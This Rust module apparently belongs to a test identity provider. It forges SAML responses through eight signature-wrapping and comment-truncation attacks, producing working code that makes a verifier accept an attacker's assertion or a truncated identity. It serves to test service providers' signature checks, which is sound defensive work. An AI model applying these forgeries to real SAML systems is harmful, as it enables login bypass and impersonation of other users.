//! Attacks on a response the IdP has already signed: XML signature wrapping (XSW) and comment
//! truncation. Each one leaves the IdP's signature intact and valid — xmlsec still verifies it
//! over the element its Reference names — and adds or moves elements so that a verifier which
//! checks "a signature is valid" rather than "*this* assertion is the one signed" reads the
//! attacker's assertion instead.
//!
//! The permutations follow Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
//! (USENIX Security 2012); comment truncation is CVE-2017-11427..11430 (Duo Labs, 2018).
//!
//! The signed XML is parsed once (without a forced encoding, see [`crate::dsig`]), edited with
//! libxml and serialised again. The evil assertion is a copy of the signed one taken from a
//! duplicate of the parsed document ([`Document::dup`]) and imported into the original.

use libxml::tree::{Document, Node, SaveOptions};
use serde::{Deserialize, Serialize};

use crate::xml::{ASSERTION_NS, DSIG_NS};

/// The identity the attacker's assertion claims.
pub const ATTACKER_NAME_ID: &str = "attacker@evil.example";

/// Where comment truncation splits the signed NameID: just before this suffix, so a verifier that
/// reads only the first text node sees `alice@example.com` where `alice@example.com.evil.example`
/// was signed.
pub const TRUNCATED_SUFFIX: &str = ".evil.example";

/// A signature-wrapping (or related) attack applied to the signed response.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum SignatureWrapping {
    /// An unsigned evil assertion (fresh ID, NameID `attacker@evil.example`) inserted before the
    /// signed one, for a verifier that checks any signature and reads the first assertion.
    EvilBefore,
    /// The same evil assertion inserted after the signed one.
    EvilAfter,
    /// The signed assertion moved into a new `samlp:Extensions` (where a schema-valid response may
    /// carry anything), the evil assertion in its place.
    SignedInExtensions,
    /// The evil assertion in the signed one's place, carrying a copy of the IdP's `ds:Signature`
    /// whose new `ds:Object` holds the signed assertion, its own signature intact (XSW7/8 of
    /// Somorovsky et al.: a verifier that checks the signature it finds *inside* the evil
    /// assertion's subtree, by ID, accepts; the copy itself no longer verifies, as the enveloped
    /// transform now removes the referenced assertion along with it).
    SignedInSignatureObject,
    /// The evil assertion in the signed one's place, with the signed assertion as its last child.
    EvilWrapsSigned,
    /// An evil assertion with the *same* ID as the signed one inserted before it, for a verifier
    /// whose ID lookup finds the signed one while the application reads the first.
    DuplicateId,
    /// The evil assertion in the signed one's place, with the signed assertion in the evil one's
    /// `saml:Advice` (where SAML core §2.3.3 lets an assertion carry others): for a verifier that
    /// accepts Advice assertions by checking "some assertion's signature verifies".
    SignedInEvilAdvice,
    /// Not wrapping: a comment is inserted into the signed NameID before [`TRUNCATED_SUFFIX`].
    /// Exclusive C14N drops comments, so the signature stays valid; a verifier that reads only
    /// the first text node truncates the identity (CVE-2017-11427..11430).
    CommentTruncation,
}

impl SignatureWrapping {
    /// Every variant, for tests and listings.
    pub const ALL: [SignatureWrapping; 8] = [
        SignatureWrapping::EvilBefore,
        SignatureWrapping::EvilAfter,
        SignatureWrapping::SignedInExtensions,
        SignatureWrapping::SignedInSignatureObject,
        SignatureWrapping::EvilWrapsSigned,
        SignatureWrapping::DuplicateId,
        SignatureWrapping::SignedInEvilAdvice,
        SignatureWrapping::CommentTruncation,
    ];
}

/// Why an attack could not be applied (a bug in the minter, or knobs the attack cannot work on).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum AttackError {
    /// The signed XML did not parse.
    #[error("the signed XML does not parse")]
    Unparsable,
    /// The response has no signed `saml:Assertion` child to attack.
    #[error("{0:?} needs a signed saml:Assertion child of the Response")]
    NoSignedAssertion(SignatureWrapping),
    /// The NameID does not contain the suffix comment truncation splits at.
    #[error("comment truncation needs a NameID containing `{TRUNCATED_SUFFIX}`, got `{0}`")]
    NameIdWithoutSuffix(String),
    /// libxml refused an edit.
    #[error("libxml refused to {0}")]
    Edit(&'static str),
}

/// Applies `attack` to the signed response `xml` and returns the serialised result.
pub fn apply(xml: &str, attack: SignatureWrapping) -> Result<String, AttackError> {
    let mut doc = crate::dsig::parse(xml).map_err(|_| AttackError::Unparsable)?;
    let response = doc.get_root_element().ok_or(AttackError::Unparsable)?;
    let mut signed = child_element(&response, ASSERTION_NS, "Assertion")
        .filter(|a| child_element(a, DSIG_NS, "Signature").is_some())
        .ok_or(AttackError::NoSignedAssertion(attack))?;
    if attack == SignatureWrapping::CommentTruncation {
        truncate_name_id(&doc, &signed)?;
        return Ok(doc.to_string_with_options(SaveOptions::default()));
    }
    let signed_id = signed.get_attribute_no_ns("ID").unwrap_or_default();
    let evil_id = match attack {
        SignatureWrapping::DuplicateId => signed_id.clone(),
        _ => format!("_evil{}", signed_id.trim_start_matches('_')),
    };
    let keep_signature = attack == SignatureWrapping::SignedInSignatureObject;
    let mut evil = evil_copy(&mut doc, &evil_id, keep_signature)?;
    let edit = AttackError::Edit;
    match attack {
        SignatureWrapping::EvilBefore | SignatureWrapping::DuplicateId => signed
            .add_prev_sibling(&mut evil)
            .map_err(|_| edit("insert the evil assertion"))?,
        SignatureWrapping::EvilAfter => signed
            .add_next_sibling(&mut evil)
            .map_err(|_| edit("insert the evil assertion"))?,
        SignatureWrapping::SignedInExtensions => {
            let mut status = response
                .get_child_elements()
                .into_iter()
                .find(|c| c.get_name() == "Status")
                .ok_or(edit("find samlp:Status"))?;
            let mut extensions = Node::new("Extensions", response.get_namespace(), &doc)
                .map_err(|_| edit("create samlp:Extensions"))?;
            status
                .add_prev_sibling(&mut extensions)
                .map_err(|_| edit("insert samlp:Extensions"))?;
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            extensions
                .add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        SignatureWrapping::SignedInSignatureObject => {
            let mut signature =
                child_element(&evil, DSIG_NS, "Signature").ok_or(edit("find ds:Signature"))?;
            let mut object = Node::new("Object", signature.get_namespace(), &doc)
                .map_err(|_| edit("create ds:Object"))?;
            signature
                .add_child(&mut object)
                .map_err(|_| edit("insert ds:Object"))?;
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            object
                .add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        SignatureWrapping::EvilWrapsSigned => {
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            evil.add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        SignatureWrapping::SignedInEvilAdvice => {
            // Schema order: Advice follows Conditions (and precedes the statements).
            let mut conditions = child_element(&evil, ASSERTION_NS, "Conditions")
                .ok_or(edit("find saml:Conditions"))?;
            let mut advice = Node::new("Advice", signed.get_namespace(), &doc)
                .map_err(|_| edit("create saml:Advice"))?;
            conditions
                .add_next_sibling(&mut advice)
                .map_err(|_| edit("insert saml:Advice"))?;
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            advice
                .add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        SignatureWrapping::CommentTruncation => {}
    }
    Ok(doc.to_string_with_options(SaveOptions::default()))
}

/// A copy of the signed assertion (unsigned unless `keep_signature`, which keeps a copy of the
/// IdP's `ds:Signature` that no longer matches), imported into `doc`, with ID `id` and every
/// occurrence of the victim's NameID (the NameID and attribute values equal to it) replaced by
/// [`ATTACKER_NAME_ID`].
fn evil_copy(doc: &mut Document, id: &str, keep_signature: bool) -> Result<Node, AttackError> {
    let edit = AttackError::Edit;
    // A duplicate document, because libxml copies a node into another document only when it is
    // unlinked, and the original assertion must stay where it is until the attack moves it.
    let source = doc.dup().map_err(|_| edit("duplicate the document"))?;
    let root = source
        .get_root_element()
        .ok_or(edit("find the copy's root"))?;
    let mut copy =
        child_element(&root, ASSERTION_NS, "Assertion").ok_or(edit("find the copy's assertion"))?;
    if let Some(mut signature) =
        child_element(&copy, DSIG_NS, "Signature").filter(|_| !keep_signature)
    {
        signature.unlink_node();
        // Unlinked and owned by nothing else: freed when this wrapper drops.
        signature.set_rust_owned();
    }
    copy.set_attribute("ID", id)
        .map_err(|_| edit("set the evil ID"))?;
    let victim = descendants(&copy)
        .into_iter()
        .find(|n| n.get_name() == "NameID")
        .map(|n| n.get_content())
        .unwrap_or_default();
    for mut node in descendants(&copy) {
        let is_value = matches!(node.get_name().as_str(), "NameID" | "AttributeValue");
        if is_value && !victim.is_empty() && node.get_content() == victim {
            node.set_content(ATTACKER_NAME_ID)
                .map_err(|_| edit("set the evil NameID"))?;
        }
    }
    copy.unlink_node();
    // The copied subtree stays attributed to `source` (libxml frees it with that document only if
    // reachable), so this leaks one assertion per attack response: acceptable for a test IdP.
    doc.import_node(&mut copy)
        .map_err(|_| edit("import the evil assertion"))
}

/// Splits the NameID's text before [`TRUNCATED_SUFFIX`] with an empty comment.
fn truncate_name_id(doc: &Document, assertion: &Node) -> Result<(), AttackError> {
    let edit = AttackError::Edit;
    let mut name_id = descendants(assertion)
        .into_iter()
        .find(|n| n.get_name() == "NameID")
        .ok_or(edit("find saml:NameID"))?;
    let value = name_id.get_content();
    let split = value
        .find(TRUNCATED_SUFFIX)
        .filter(|&at| at > 0)
        .ok_or_else(|| AttackError::NameIdWithoutSuffix(value.clone()))?;
    let (head, tail) = value.split_at(split);
    name_id
        .set_content(head)
        .map_err(|_| edit("set the NameID's first text"))?;
    let mut comment = Node::new_comment("", doc).map_err(|_| edit("create the comment"))?;
    let mut rest = Node::new_text(tail, doc).map_err(|_| edit("create the second text"))?;
    name_id
        .add_child(&mut comment)
        .map_err(|_| edit("insert the comment"))?;
    name_id
        .add_child(&mut rest)
        .map_err(|_| edit("insert the second text"))?;
    Ok(())
}

fn child_element(parent: &Node, namespace: &str, name: &str) -> Option<Node> {
    parent.get_child_elements().into_iter().find(|child| {
        child.get_name() == name
            && child
                .get_namespace()
                .is_some_and(|ns| ns.get_href() == namespace)
    })
}

/// Every element below `node`, in document order.
fn descendants(node: &Node) -> Vec<Node> {
    let mut out = Vec::new();
    for child in node.get_child_elements() {
        out.push(child.clone());
        out.extend(descendants(&child));
    }
    out
}
